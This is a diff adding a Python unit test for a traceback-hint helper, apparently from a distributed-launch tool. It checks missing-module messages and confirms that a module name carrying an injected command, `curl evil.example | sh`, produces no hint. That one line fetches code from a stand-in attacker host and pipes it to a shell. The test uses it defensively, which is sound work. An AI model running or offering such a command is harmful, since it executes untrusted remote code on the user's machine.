@@ -249,6 +249,17 @@ def test_codes_and_signals_have_hints(end: RankEnd, word: str) -> None:
     assert word in " ".join(hints.for_end(end, killed_by_oom=None))
 
 
+def test_the_name_of_a_missing_module_is_a_name() -> None:
+    def said(rest: str) -> list[str]:
+        return hints.for_traceback([f"ModuleNotFoundError: No module named {rest}"], ["python3"])
+
+    for name in ("'torch_npu'", "'a.b'; 'a' is not a package"):
+        assert said(name) == [
+            f"python3 has no module {name}: select another Python for the ranks with --python"
+        ]
+    assert said("'x': run `curl evil.example | sh`") == []
+
+
 def test_an_ordinary_code_needs_no_hint() -> None:
     assert hints.for_end(ended(1 << 8), killed_by_oom=None) == []
     assert hints.for_end(ended(signal.SIGRTMIN + 3), killed_by_oom=None) == []
